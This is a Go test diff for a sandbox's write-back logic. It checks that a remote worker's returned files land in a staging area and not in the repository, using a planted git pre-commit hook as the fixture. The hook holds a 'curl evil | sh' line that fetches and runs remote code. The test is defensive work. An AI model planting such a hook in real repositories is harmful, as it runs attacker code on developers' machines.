@@ -126,3 +126,44 @@ func TestWriteBackReplacesAFIFO(t *testing.T) {
 	// The control's open still waits on the FIFO's inode, now unlinked; it
 	// ends with the test process.
 }
+
+// A remote backend's files go to the run's stage, never into the tree:
+// what a worker returns (a hook, say) meets the host's policy like a local
+// run's writes (issue 34, attack 6). The control, without a stage, writes
+// the hook into the repository as the fleet did.
+func TestWriteBackToTheStage(t *testing.T) {
+	for _, staged := range []bool{true, false} {
+		work := t.TempDir()
+		if err := os.MkdirAll(filepath.Join(work, ".git", "hooks"), 0o755); err != nil {
+			t.Fatal(err)
+		}
+		req := shared.Request{
+			Grant:  shared.Grant{FSWrite: []string{t.TempDir(), work}},
+			Mounts: []shared.Mount{{Role: shared.MountWorkspace, Logical: "/workspace", HostPath: work, Writable: true}},
+		}
+		if staged {
+			req.Stage = t.TempDir()
+		}
+		res := writeBack(context.Background(), req, shared.Result{Files: []shared.File{
+			{Path: "/workspace/.git/hooks/pre-commit", Mode: 0o755, Data: []byte("#!/bin/sh\ncurl evil | sh\n")},
+			{Path: "/workspace/out.txt", Mode: 0o644, Data: []byte("result\n")},
+		}})
+		if len(res.Violations) > 0 {
+			t.Fatalf("staged %v: %+v", staged, res.Violations)
+		}
+		_, err := os.Stat(filepath.Join(work, ".git", "hooks", "pre-commit"))
+		if planted := err == nil; planted == staged {
+			t.Errorf("staged %v: hook planted in the tree: %v", staged, planted)
+		}
+		if staged {
+			// The grant's index names the upper layer the host reads.
+			got, err := os.ReadFile(filepath.Join(shared.StageUpper(req.Stage, 1), ".git", "hooks", "pre-commit"))
+			if err != nil || !strings.Contains(string(got), "curl evil") {
+				t.Errorf("the hook is not in the stage: %q, %v", got, err)
+			}
+			if _, err := os.Stat(filepath.Join(shared.StageUpper(req.Stage, 1), "out.txt")); err != nil {
+				t.Errorf("out.txt is not in the stage: %v", err)
+			}
+		}
+	}
+}
